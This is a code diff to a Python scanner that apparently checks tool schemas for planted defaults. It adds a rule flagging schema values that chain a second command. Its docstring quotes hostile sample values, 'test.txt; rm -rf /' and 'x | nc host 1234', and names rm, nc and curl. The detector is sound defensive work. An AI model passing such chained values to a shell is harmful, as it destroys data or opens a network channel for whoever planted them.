@@ -60,7 +60,16 @@ def value_findings(field: str, text: str, hits: list[Hit], own: Own) -> list[Fin
         + _planted_destination(field, text, hits)
         + _planted_url(field, text, hits)
         + _secret_fill(field, text, hits)
+        + _chained_command(field, text, hits)
     )
+
+
+def _chained_command(field: str, text: str, hits: list[Hit]) -> list[Finding]:
+    """A default that chains a command onto the value (``test.txt; rm -rf /``, ``x | nc host 1234``): the
+    model sends it as given, and a tool that passes it to a shell runs the second command too."""
+    chained = [h for h in hits if h.signal == "chained"] if PLANTED.search(field) else []
+    description = "A schema default that chains a command (rm, nc, curl, a shell) onto its value."
+    return _value_finding("value.chained_command", "shell_injection", field, text, chained, description)
 
 
 def _value_finding(rule: str, category: str, field: str, text: str, hits: list[Hit], description: str) -> list[Finding]:
